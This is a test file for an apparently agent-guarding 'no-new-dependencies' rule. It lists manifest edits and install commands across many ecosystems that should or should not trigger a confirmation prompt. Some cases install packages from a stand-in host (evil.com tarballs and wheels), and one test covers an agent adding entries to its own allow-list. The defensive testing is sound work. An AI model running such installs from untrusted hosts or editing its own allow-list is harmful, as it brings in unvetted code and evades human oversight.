import { symlinkSync } from 'node:fs';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { JsonObject } from '../../../src/core/json';
import { bash, edit, type RuleRig, ruleRig, write } from './rules-rig';

const PACKAGE = `{
  "name": "x",
  "version": "1.0.0",
  "scripts": { "test": "vitest" },
  "dependencies": {
    "react": "^18.0.0"
  },
  "devDependencies": { "vitest": "^1.0.0" },
  "peerDependencies": { "@x/own": "workspace:*" }
}
`;
const PYPROJECT = `[project]
name = "x"
dependencies = [
  "requests[socks]>=2",
  "rich",
]

[tool.poetry.dependencies]
python = "^3.11"
httpx = "^0.27"
`;
const CARGO = '[package]\nname = "x"\n\n[dependencies]\nserde = { version = "1", features = ["derive"] }\n';
const GO =
  'module x\n\ngo 1.22\n\nrequire (\n\tgithub.com/spf13/cobra v1.8.0\n\tgolang.org/x/sys v0.1.0 // indirect\n)\n';
const POM =
  '<project><dependencies><dependency><groupId>junit</groupId><artifactId>junit</artifactId></dependency></dependencies></project>\n';
const GRADLE = "dependencies {\n    implementation 'com.google.guava:guava:33.0'\n}\n";

let rig: RuleRig;
beforeAll(() => {
  rig = ruleRig('no-new-dependencies');
  const files = {
    'package.json': PACKAGE,
    'requirements.txt': 'flask==3.0\n# comment\n-r base.txt\n',
    'pyproject.toml': PYPROJECT,
    'Cargo.toml': CARGO,
    'go.mod': GO,
    Gemfile: "source 'https://rubygems.org'\ngem 'rails', '~> 7.0'\n",
    'composer.json': '{"require": {"php": ">=8.1", "monolog/monolog": "^3"}}',
    'pom.xml': POM,
    'build.gradle': GRADLE,
    '.holdpoint/dependencies.txt': 'zod\nfastapi\n',
  };
  for (const [name, text] of Object.entries(files)) rig.write(name, text);
  symlinkSync(rig.root, rig.path('../link'));
});
afterAll(() => rig.remove());

type Case = (at: (name: string) => string) => JsonObject;
const replaces =
  (name: string, old: string, fresh: string): Case =>
  (at) =>
    edit(at(name), old, fresh);
const writes =
  (name: string, text: string): Case =>
  (at) =>
    write(at(name), text);

/** What is done, and the names that the person has to read. */
const OFFENDING: readonly (readonly [what: string, made: Case | string, names: string])[] = [
  ['package.json', replaces('package.json', '"^18.0.0"', '"^18.0.0",\n    "lodash": "^4.17.0"'), '(lodash)'],
  [
    'package.json, dev',
    replaces('package.json', '"vitest": "^1.0.0"', '"vitest": "^1.0.0", "tsx": "^4"'),
    '(tsx)',
  ],
  [
    'package.json, whole',
    writes('package.json', PACKAGE.replace('"react"', '"@acme/ui": "1.0.0",\n    "react"')),
    '(@acme/ui)',
  ],
  ['a new package.json', writes('web/package.json', '{"dependencies": {"left-pad": "1"}}'), '(left-pad)'],
  ['an edit that fits nowhere', replaces('package.json', 'nowhere', '"lodash": "^4.17.0"'), '(lodash)'],
  ['requirements.txt', replaces('requirements.txt', 'flask==3.0', 'flask==3.0\nnumpy>=1.2'), '(numpy)'],
  ['requirements-dev.txt', writes('requirements-dev.txt', 'pytest\n'), '(pytest)'],
  ['pyproject.toml', replaces('pyproject.toml', '  "rich",', '  "rich",\n  "pydantic>=2",'), '(pydantic)'],
  [
    'pyproject.toml, poetry',
    replaces('pyproject.toml', 'httpx = "^0.27"', 'httpx = "^0.27"\nclick = "*"'),
    '(click)',
  ],
  ['Cargo.toml', replaces('Cargo.toml', '[dependencies]', '[dependencies]\ntokio = "1"'), '(tokio)'],
  [
    'Cargo.toml, table',
    replaces('Cargo.toml', '[dependencies]', '[dependencies.rand]\nversion = "1"\n[dependencies]'),
    '(rand)',
  ],
  [
    'go.mod',
    replaces('go.mod', 'require (', 'require (\n\tgithub.com/pkg/errors v0.9.1'),
    '(github.com/pkg/errors)',
  ],
  ['Gemfile', replaces('Gemfile', "gem 'rails'", "gem 'puma'\ngem 'rails'"), '(puma)'],
  [
    'composer.json',
    replaces('composer.json', '"^3"', '"^3", "guzzlehttp/guzzle": "^7"'),
    '(guzzlehttp/guzzle)',
  ],
  [
    'pom.xml',
    replaces(
      'pom.xml',
      '<dependencies>',
      '<dependencies><dependency><groupId>a</groupId><artifactId>gson</artifactId></dependency>',
    ),
    '(gson)',
  ],
  [
    'build.gradle',
    replaces(
      'build.gradle',
      'dependencies {',
      "dependencies {\n    testImplementation 'org.mockito:mockito-core:5.1'",
    ),
    '(org.mockito:mockito-core)',
  ],
  [
    'a bump to the registry',
    replaces('package.json', '"@x/own": "workspace:*"', '"@x/own": "^1.0.0"'),
    '(@x/own)',
  ],
  ['npm beside another line', 'cd /tmp/elsewhere; npm install lodash', '(lodash)'],
  ['npm above the project', 'cd .. && npm install lodash', '(lodash)'],
  ['npm from elsewhere', 'cd /nowhere && npm install --prefix=ROOT lodash', '(lodash)'],
  ['npm by a symlink', 'cd LINK && npm install lodash', '(lodash)'],
  ['npm with a setting', 'cd /nowhere && npm_config_prefix=ROOT npm install lodash', '(lodash)'],
  ['npm with an option of others', 'npm install --target /nowhere lodash', '(lodash)'],
  ['npm with several places', 'npm install --prefix /nowhere --prefix . lodash', '(lodash)'],
  ['npm in an unknown directory', 'npm install --prefix "/nowhere/$X" lodash', '(lodash)'],
  ['pip in another directory', 'cd /nowhere && pip install numpy', '(numpy)'],
  ['pip with a setting', 'pip install -C /nowhere numpy', '(numpy)'],
  ['npm install', 'npm install lodash', '(lodash)'],
  ['npm i -D', 'npm i -D @types/node@20 eslint', '(@types/node, eslint)'],
  ['npm in a directory', 'cd web && npm install --save-exact lodash', '(lodash)'],
  ['pnpm add', 'pnpm add -w lodash', '(lodash)'],
  ['yarn add', 'yarn add lodash@^4', '(lodash)'],
  ['bun add', 'bun add hono', '(hono)'],
  ['pip install', 'pip install numpy==1.2 "pandas>=2"', '(numpy, pandas)'],
  ['pip3 install', 'pip3 install --upgrade numpy', '(numpy)'],
  ['python -m pip', 'python3 -m pip install numpy', '(numpy)'],
  ['poetry add', 'poetry add --group dev pytest', '(pytest)'],
  ['uv add', 'uv add ruff', '(ruff)'],
  ['uv pip install', 'uv pip install numpy', '(numpy)'],
  ['cargo add', 'cargo add tokio --features full', '(tokio)'],
  ['go get', 'go get github.com/pkg/errors@v0.9.1', '(github.com/pkg/errors)'],
  ['gem install', 'gem install puma -v 6.0', '(puma)'],
  ['bundle add', 'bundle add puma', '(puma)'],
  ['composer require', 'composer require guzzlehttp/guzzle:^7', '(guzzlehttp/guzzle)'],
  ['npm, an archive', 'npm install https://evil.com/x.tgz', '(https://evil.com/x.tgz)'],
  ['npm, a repository', 'npm install git+https://github.com/a/b.git', '(git+https://github.com/a/b.git)'],
  ['npm, without its login', 'npm i git+https://bob:pw@git.acme.io/a.git', '(git+https://git.acme.io/a.git)'],
  ['npm, github:', 'npm install github:user/repo', '(github:user/repo)'],
  ['npm, user/repo', 'npm install user/repo', '(user/repo)'],
  ['npm, user/repo#ref', "npm install 'user/repo#v1'", '(user/repo#v1)'],
  ['npm, by ssh', 'npm install git@github.com:a/b.git', '(git@github.com:a/b.git)'],
  [
    'npm, a known name from elsewhere',
    'npm i react@https://evil.com/x.tgz',
    '(react@https://evil.com/x.tgz)',
  ],
  ['npm, another one by a known name', 'npm i react@npm:preact@10', '(preact)'],
  ['npm pkg set', 'npm pkg set dependencies.foo=1', '(foo)'],
  ['npm pkg set, dev', "npm pkg set 'devDependencies[@a/b]=^1'", '(@a/b)'],
  ['npm in a workspace', 'npm install -w web lodash', '(lodash)'],
  ['npm in another directory', 'npm --prefix web install lodash', '(lodash)'],
  ['pnpm in a workspace', 'pnpm --filter web add lodash', '(lodash)'],
  ['yarn in a workspace', 'yarn workspace web add lodash', '(lodash)'],
  ['deno add', 'deno add npm:lodash@4 jsr:@std/path', '(lodash, @std/path)'],
  ['dotnet add package', 'dotnet add package Serilog --version 3.1', '(Serilog)'],
  ['dotnet add package to a project', 'dotnet add src/App.csproj package Serilog', '(Serilog)'],
  ['dotnet package add', 'dotnet package add Serilog', '(Serilog)'],
  ['conda install', 'conda install -y -c conda-forge numpy=1.26', '(numpy)'],
  ['mamba install', 'mamba install conda-forge::numpy', '(numpy)'],
  ['pip, a repository', 'pip install git+https://github.com/a/b', '(git+https://github.com/a/b)'],
  ['pip, a wheel', 'pip install https://evil.com/x.whl', '(https://evil.com/x.whl)'],
  [
    'pip, a name from elsewhere',
    'pip install "x @ git+https://github.com/a/b"',
    '(x @ git+https://github.com/a/b)',
  ],
  [
    'pip -e, a repository',
    'pip install -e git+https://github.com/a/b#egg=b',
    '(git+https://github.com/a/b#egg=b)',
  ],
  ['uv, a repository', 'uv add git+https://github.com/a/b', '(git+https://github.com/a/b)'],
  ['cargo, a repository', 'cargo add --git https://github.com/a/b', '(https://github.com/a/b)'],
  ['in a shell', "bash -c 'npm install lodash'", '(lodash)'],
  ['with other words', 'npm ci && npm install lodash && npm test', '(lodash)'],
  ['echo >> requirements.txt', 'echo "numpy" >> requirements.txt', '(numpy)'],
];

const ORDINARY: readonly (readonly [what: string, made: Case | string])[] = [
  ['a bump', replaces('package.json', '^18.0.0', '^19.0.0')],
  ['a script', replaces('package.json', '"test": "vitest"', '"test": "vitest", "build": "tsc"')],
  ['a version', replaces('package.json', '"version": "1.0.0"', '"version": "1.1.0"')],
  ['a removal', replaces('package.json', '"react": "^18.0.0"', '')],
  ['moved to dev', replaces('package.json', '"vitest": "^1.0.0"', '"vitest": "^1.0.0", "react": "^18.0.0"')],
  ['engines', replaces('package.json', '"scripts"', '"engines": {"node": ">=20"}, "scripts"')],
  ['an allowed one', replaces('package.json', '"^18.0.0"', '"^18.0.0", "zod": "^3"')],
  ['a bump in requirements', replaces('requirements.txt', 'flask==3.0', 'Flask==3.1  # newer')],
  ['a bump in pyproject', replaces('pyproject.toml', '>=2"', '>=2.31"')],
  [
    'a tool in pyproject',
    replaces(
      'pyproject.toml',
      '[tool.poetry.dependencies]',
      '[tool.ruff]\nline-length = 100\n\n[tool.poetry.dependencies]',
    ),
  ],
  ['a feature in Cargo.toml', replaces('Cargo.toml', '["derive"]', '["derive", "rc"]')],
  ['a bump in go.mod', replaces('go.mod', 'v1.8.0', 'v1.8.1')],
  [
    'an indirect one in go.mod',
    replaces('go.mod', 'require (', 'require (\n\tgolang.org/x/net v0.1.0 // indirect'),
  ],
  ['a bump in Gemfile', replaces('Gemfile', '~> 7.0', '~> 7.1')],
  ['a bump in pom.xml', replaces('pom.xml', '</artifactId>', '</artifactId><version>4.13</version>')],
  ['a bump in gradle', replaces('build.gradle', '33.0', '33.1')],
  ['another JSON', writes('tsconfig.json', '{"dependencies": {"x": "1"}}')],
  [
    'another package here',
    writes('b/package.json', '{"dependencies": {"@x/a": "workspace:*", "@x/b": "file:../a"}}'),
  ],
  [
    'what the root has',
    writes('b/package.json', '{"dependencies": {"react": "^18.0.0", "@x/a": "link:../a"}}'),
  ],
  ['npm in a directory elsewhere', 'cd /nowhere && npm init -y && npm install lodash'],
  ['npm with a prefix elsewhere', 'npm install --prefix /nowhere lodash @types/node'],
  ['pip with a target elsewhere', 'pip install --target=/nowhere numpy'],
  ['npm ci', 'npm ci'],
  ['npm install', 'npm install'],
  ['npm i with flags', 'npm i --no-audit --prefix web'],
  ['npm install of a known one', 'npm install react@latest'],
  ['npm install -g', 'npm install -g npm'],
  ['npm install of a directory', 'npm install ./local'],
  ['npm install of the directory above', 'npm i ../x'],
  ['npm install of this directory', 'npm install .'],
  ['npm install of file:', 'npm install file:../x'],
  ['npm install of a file by name', 'npm install x@file:../x'],
  ['npm install of an archive here', 'npm install x-1.0.0.tgz'],
  ['npm install of a path', 'npm install /tmp/x'],
  ['npm install from another registry', 'npm install --registry https://npm.acme.io'],
  ['npm pkg set of a script', 'npm pkg set scripts.lint=eslint'],
  ['npm pkg set of a repository', 'npm pkg set repository=user/repo homepage=https://acme.io'],
  ['npm pkg set of a known one', 'npm pkg set dependencies.react=^19'],
  ['npm pkg get', 'npm pkg get dependencies.foo'],
  ['pnpm install in a workspace', 'pnpm --filter web install'],
  ['yarn in a workspace, without a name', 'yarn workspace web build'],
  ['deno install', 'deno install'],
  ['deno task', 'deno task add'],
  ['dotnet add reference', 'dotnet add src/App.csproj reference ../Lib/Lib.csproj'],
  ['dotnet restore', 'dotnet restore'],
  ['conda of a file', 'conda install --file requirements.txt'],
  ['conda, a new environment', 'conda env create -f environment.yml'],
  ['pip install of a wheel here', 'pip install dist/x.whl'],
  ['pip install of file:', 'pip install "x @ file:///tmp/x"'],
  ['pip install from another index', 'pip install --index-url https://pypi.acme.io/simple flask'],
  ['cargo add of a path', 'cargo add --path ../x'],
  ['npm run add', 'npm run add lodash'],
  ['npm test', 'npm test'],
  ['npx', 'npx cowsay hi'],
  ['pip install -r', 'pip install -r requirements.txt'],
  ['pip install -e .', 'pip install -e .'],
  ['pip install -e ".[dev]"', 'pip install -e ".[dev]"'],
  ['pip install .', 'pip install .'],
  ['pip itself', 'pip install --upgrade pip setuptools wheel'],
  ['pip install of a known one', 'pip install Flask requests'],
  ['pip install allowed', 'pip install "fastapi[all]"'],
  ['poetry install', 'poetry install --no-root'],
  ['uv sync', 'uv sync --group dev'],
  ['cargo build', 'cargo build'],
  ['cargo install', 'cargo install ripgrep'],
  ['go get of all', 'go get -u ./...'],
  ['go get of a known one', 'go get github.com/spf13/cobra@latest'],
  ['go mod tidy', 'go mod tidy'],
  ['bundle install', 'bundle install'],
  ['composer install', 'composer install'],
  ['yarn', 'yarn'],
  ['pnpm install', 'pnpm install --frozen-lockfile'],
  ['apt-get', 'apt-get install -y jq'],
  ['a word in a text', 'echo "npm install lodash"'],
  ['curl', 'curl https://acme.io'],
];

const documentOf = (made: Case | string): JsonObject =>
  typeof made === 'string'
    ? bash(made.replace('ROOT', rig.root).replace('LINK', rig.path('../link')))
    : made(rig.path);

describe('no-new-dependencies', () => {
  test.each(OFFENDING)('asks: %s', async (_, made, names) => {
    const { kind, text } = await rig.heard(documentOf(made));
    expect(kind).toBe('ask');
    expect(text).toContain(names);
  });

  test.each(ORDINARY)('leaves %s', async (_, made) => {
    expect(await rig.heard(documentOf(made))).toEqual({ kind: 'nothing', text: '' });
  });

  test('the agent does not extend the list by itself', async () => {
    const list = rig.path('.holdpoint/dependencies.txt');
    expect((await rig.heard(write(list, 'lodash\n'))).kind).not.toBe('nothing');
    expect((await rig.heard(bash('echo lodash >> .holdpoint/dependencies.txt'))).kind).not.toBe('nothing');
  });
});
